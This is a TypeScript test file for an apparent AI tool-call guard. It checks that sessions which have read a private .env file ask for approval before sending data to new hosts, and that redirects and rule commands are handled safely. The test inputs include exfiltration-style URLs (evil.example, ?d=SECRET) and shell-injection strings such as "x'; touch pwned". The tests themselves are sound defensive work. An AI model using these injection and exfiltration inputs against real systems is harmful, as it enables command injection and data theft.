import { execFileSync } from 'node:child_process'
import { describe, expect, test } from 'vitest'
import { openWeb } from '../../src/capabilities/web.ts'
import { defineTool } from '../../src/contract/define-tool.ts'
import { defineToolset } from '../../src/contract/define-toolset.ts'
import type { Tool } from '../../src/contract/tool.ts'
import { createDataFlows } from '../../src/runtime/pipeline/data-flows.ts'
import { openPages } from '../../src/toolsets/web/capability/pages.ts'
import { fetchPage } from '../../src/toolsets/web/fetch-page.ts'
import { closeServersAfterEach } from '../helpers/local-servers.ts'
import { codeOf, no, openFolder, openHost, yes } from '../helpers/open-data-flow.ts'
import { defineEcho, makeFolder, openTestPipeline, openTestStorage } from '../helpers/open-test-pipeline.ts'

closeServersAfterEach()

describe('a session that has read a private file', () => {
  test('asks before it sends to a host, and the question says why', async () => {
    const { host, url, paths } = await openHost()
    const { read, fetch, asked } = await openFolder([host])
    expect(await fetch(`${url}/before`, 'two')).toMatchObject({ success: true })
    expect(asked).toEqual([])
    expect(await read()).toMatchObject({ success: true })
    const refused = await fetch(`${url}/?d=SECRET`)
    expect(paths).toEqual(['/before'])
    const reason = `This session read private data (.env); this call sends data to ${host}, which you have not allowed yet.`
    expect(asked.map((request) => request.reason)).toEqual([reason])
    expect(refused).toMatchObject({ success: false, ran: false, error: { code: 'approval_denied' } })
    const { message, suggestion } = (refused as { error: { message: string; suggestion: string } }).error
    expect(message).toContain(reason)
    expect(suggestion).toContain(`toolpact rules add web-fetch.web.fetch '`)
  })

  test('looks up no name before a person has said yes', async () => {
    const looked: string[] = []
    const web = openWeb({
      async lookup(name) {
        looked.push(name)
        return []
      },
    })
    const readSecret = defineEcho({ name: 'read_secret', effects: { returns: ['private'] } })
    const storage = openTestStorage('memory')
    const answers = [no, yes]
    const { call, asked } = openTestPipeline([readSecret, fetchPage as unknown as Tool], {
      storage,
      policy: () => ({ followsData: true }),
      flows: createDataFlows({ by: 'session', notes: storage.notes, workspace: '/' }),
      capabilities: () => ({ web, pages: openPages() }),
      approver: async () => answers.shift()!,
    })
    expect(codeOf(await call('read_secret', { text: 'x' }))).toBe('success')
    expect(codeOf(await call('web.fetch', { url: 'http://secret.evil.example/' }))).toBe('approval_denied')
    expect(looked).toEqual([])
    expect(codeOf(await call('web.fetch', { url: 'http://secret.evil.example/' }))).toBe('fetch_failed')
    expect(looked).toEqual(['secret.evil.example'])
    expect(asked).toHaveLength(2)
  })

  test('asks once per host, whichever tool fetches', async () => {
    const [a, b] = [await openHost(), await openHost()]
    const { read, fetch, fetchWebpage, asked } = await openFolder([a.host, b.host], { answers: [yes, yes] })
    await read()
    for (const result of [await fetch(`${a.url}/1`), await fetch(a.url), await fetchWebpage(`${a.url}/2`)])
      expect(codeOf(result)).toBe('success')
    expect(asked).toHaveLength(1)
    for (const result of [await fetchWebpage(`${b.url}/1`), await fetchWebpage(`${b.url}/2`), await fetch(b.url)])
      expect(codeOf(result)).toBe('success')
    expect(asked.map(({ reason }) => reason.includes('This session read private data (.env)'))).toEqual([true, true])
    // Another session has allowed nothing.
    await read('two')
    expect(codeOf(await fetch(a.url, 'two'))).toBe('approval_denied')
  })

  test('gets a command to copy that a shell reads as one rule, whatever the model wrote', async () => {
    const { read, toolpact } = await openFolder([], {
      toolsets: [
        'workspace',
        defineToolset(
          'own',
          [
            defineTool(
              {
                ...defineEcho({ name: 'get' }).contract,
                approval: 'never',
                input: {
                  type: 'object',
                  additionalProperties: false,
                  required: ['url', 'note'],
                  properties: {
                    url: { type: 'string', description: 'The address' },
                    note: { type: 'string', description: 'A note' },
                  },
                },
                effects: { fetches: ['url'], returns: ['untrusted'], askPerHost: true },
                examples: [],
              },
              () => ({ said: 'x' }) as never,
            ),
          ] as never,
          { strict: false },
        ),
      ],
    })
    await read()
    const note = "x'; touch pwned; echo '"
    const caller = { name: 'tester', session: 'one' }
    const refused = await toolpact.call('own.get', { url: "https://a';id;'.evil.example/x", note }, { caller })
    const { suggestion } = (refused as { error: { suggestion: string } }).error
    const command = suggestion.slice(suggestion.indexOf('toolpact rules add'))
    const words = execFileSync('sh', ['-c', `toolpact() { printf '%s\\n' "$#"; }; ${command}`], { encoding: 'utf8' })
    expect(words).toBe('4\n')
  })

  test.each(['/page', '', '?q=1'])(
    'offers a rule for the host of a URL that ends with %j, and asks no more',
    async (end) => {
      const { host, url } = await openHost()
      const { read, fetch, fetchWebpage, asked, toolpact } = await openFolder([host], { stateDirectory: makeFolder() })
      for (const [tool, call] of [
        ['web-fetch.web.fetch', fetch],
        ['workspace.fetch_webpage', fetchWebpage],
      ] as const) {
        // biome-ignore format: one line
        await read()
        expect(codeOf(await call(`${url}${end}`))).toBe('approval_denied')
        const [site, ...others] = await asked.at(-1)!.offerRules()
        expect([site!.about, others]).toEqual(['pages of the same site (by tester)', []])
        await toolpact.rules.add({ tool, pattern: site!.pattern, scope: 'session', session: 'one', createdBy: 'Ada' })
        const before = asked.length
        for (const page of [`${url}${end}`, `${url}/other`, url]) expect(codeOf(await call(page))).toBe('success')
        expect(asked).toHaveLength(before)
      }
    },
  )

  test('a rule for one page does not open its host', async () => {
    const { host, url } = await openHost()
    const { read, fetch, toolpact } = await openFolder([host], { stateDirectory: makeFolder() })
    await read()
    const pattern = `{"include_raw_html":false,"url":"${url.replaceAll('.', '\\.')}/"}`
    await toolpact.rules.add({ tool: 'web-fetch.web.fetch', pattern, scope: 'session', session: 'one', createdBy: 'Ada' }) // biome-ignore format: one line
    expect(codeOf(await fetch(`${url}/`))).toBe('success')
    expect(codeOf(await fetch(`${url}/?d=SECRET`))).toBe('approval_denied')
  })
})

test('text that others wrote makes a session ask too, and a file that was not there does not', async () => {
  const [a, b] = [await openHost(), await openHost()]
  const { fetch, toolpact, asked } = await openFolder([a.host, b.host])
  const caller = { name: 'tester', session: 'one' }
  expect(codeOf(await toolpact.call('read_file', { path: 'nothing' }, { caller }))).toBe('file_not_found')
  expect(codeOf(await fetch(`${a.url}/1`))).toBe('success')
  expect(codeOf(await fetch(`${b.url}/2`))).toBe('approval_denied')
  expect(asked[0]!.reason).toContain(`This session took in text that others wrote (${a.url}/1)`)
})

test('the config turns the question on and off, and the library asks only if configured to', async () => {
  const { host, url } = await openHost()
  const off = await openFolder([host], { config: { policy: { allowHosts: [host], dataFlow: 'off' } } })
  await off.read()
  expect(codeOf(await off.fetch(url))).toBe('success')
  const on = await openFolder([host], { dataFlow: undefined, config: { policy: { allowHosts: [host], dataFlow: 'ask' } } }) // biome-ignore format: one line
  await on.read()
  expect(codeOf(await on.fetch(url))).toBe('approval_denied')
  const plain = await openFolder([host], { dataFlow: undefined })
  await plain.read()
  expect(codeOf(await plain.fetch(url))).toBe('success')
})

test('a caller without a session is followed from one process to the next', async () => {
  const { host, url } = await openHost()
  const stateDirectory = makeFolder()
  const kept = { storage: 'sqlite', dataFlow: 'caller', workspace: makeFolder(), stateDirectory } as const
  const first = await openFolder([host], { ...kept, answers: [yes] })
  await first.read('one')
  const second = await openFolder([host], kept)
  expect(codeOf(await second.fetch(url, 'two'))).toBe('approval_denied')
  expect(second.asked[0]!.reason).toMatch(/^This caller read private data \(\.env\);/)
  expect(codeOf(await first.fetch(url, 'three'))).toBe('success')
  expect(codeOf(await second.fetch(url, 'four'))).toBe('success')
})

test('a tool of a program declares its receiver, and a service of the operator is always allowed', async () => {
  const object = { type: 'object', additionalProperties: false } as const
  const to = {
    ...object,
    required: ['to'],
    properties: { to: { type: 'string', description: 'Who gets it' } },
  } as const
  const send = (name: string, effects: object) => defineTool({ name, description: 'Sends something away.', risk: 'read_only', input: to, output: object, effects }, () => ({})) // biome-ignore format: one line
  const mail = defineToolset('mail', [send('post', { sends: ['to'] }), send('push', { sendsTo: ['api.example.com'] }), send('find', { sendsTo: ['operator'] })], { strict: false }) // biome-ignore format: one line
  const { read, toolpact, asked } = await openFolder([], { toolsets: ['workspace', mail], answers: [yes] })
  const call = (tool: string, receiver: string) => toolpact.call(tool, { to: receiver }, { caller: { name: 'tester', session: 'one' } }) // biome-ignore format: one line
  await read()
  expect(codeOf(await call('mail.find', 'x'))).toBe('success')
  expect(codeOf(await call('mail.post', 'bob@evil.example'))).toBe('success')
  expect(codeOf(await call('mail.post', 'bob@evil.example'))).toBe('success')
  expect(codeOf(await call('mail.post', 'eve@evil.example'))).toBe('approval_denied')
  expect(codeOf(await call('mail.push', 'x'))).toBe('approval_denied')
  const receivers = asked.map(({ reason }) => /sends data to (\S+),/.exec(reason)?.[1])
  expect(receivers).toEqual(['bob@evil.example', 'eve@evil.example', 'api.example.com'])
})

describe('a redirect to another origin', () => {
  test('is not followed by a yes or a rule for the first, and the error says how to go on', async () => {
    const target = await openHost()
    const first = await openHost({ '/go': `${target.url}/there?d=1` })
    const { fetchWebpage, asked } = await openFolder([target.host, first.host], { answers: [yes, yes], dataFlow: undefined }) // biome-ignore format: one line
    const ended = await fetchWebpage(`${first.url}/go`)
    expect(ended).toMatchObject({
      error: {
        code: 'fetch_failed',
        message: `Failed to fetch - ${first.host} redirects to ${target.url}, which is not allowed yet`,
        suggestion: expect.stringContaining(`call again with the url ${target.url}/there?d=1`),
      },
    })
    expect(target.paths).toEqual([])
    expect(codeOf(await fetchWebpage(`${target.url}/there?d=1`))).toBe('success')
    expect(asked.map(({ input }) => input.url)).toEqual([`${first.url}/go`, `${target.url}/there?d=1`])
  })

  test('asks in a session that has read private data, and is followed once both hosts are allowed', async () => {
    const target = await openHost()
    const first = await openHost({ '/go': `${target.url}/there`, '/stay': '/here' })
    const { read, fetch, asked } = await openFolder([target.host, first.host], { answers: [yes, yes] })
    expect(codeOf(await fetch(`${first.url}/go`, 'unread'))).toBe('success')
    await read()
    expect(codeOf(await fetch(`${first.url}/stay`))).toBe('success')
    expect(codeOf(await fetch(`${first.url}/go?again`))).toBe('success')
    const again = await fetch(`${first.url}/go`)
    expect(again).toMatchObject({ error: { message: expect.stringContaining(`redirects to ${target.url}`) } })
    expect(target.paths).toEqual(['/there'])
    expect(codeOf(await fetch(`${target.url}/there`))).toBe('success')
    expect(codeOf(await fetch(`${first.url}/go`))).toBe('success')
    expect(asked).toHaveLength(2)
  })

  test('does not pass a rule that denies it', async () => {
    const target = await openHost()
    const first = await openHost({ '/go': `${target.url}/there` })
    const { fetch, toolpact } = await openFolder([target.host, first.host], { dataFlow: undefined })
    const pattern = target.url.replaceAll('.', '\\.')
    await toolpact.rules.add({ tool: 'web-fetch.web.fetch', pattern, action: 'deny', scope: 'session', createdBy: 'Ada' }) // biome-ignore format: one line
    const ended = await toolpact.call('web.fetch', { url: `${first.url}/go` })
    expect(ended).toMatchObject({ error: { code: 'fetch_failed', message: expect.stringContaining('not allowed') } })
    expect(target.paths).toEqual([])
    expect(codeOf(await fetch(`${first.url}/other`))).toBe('success')
  })
})

test('a tool that asks per host asks once per host also where data is not followed', async () => {
  const { host, url } = await openHost()
  const { fetchWebpage, asked } = await openFolder([host], {
    answers: [yes],
    config: { policy: { allowHosts: [host], dataFlow: 'off' } },
  })
  for (const path of ['/1', '/2', '/3']) expect(codeOf(await fetchWebpage(`${url}${path}`))).toBe('success')
  expect(asked).toHaveLength(1)
  expect(codeOf(await fetchWebpage(url, 'two'))).toBe('approval_denied')
})
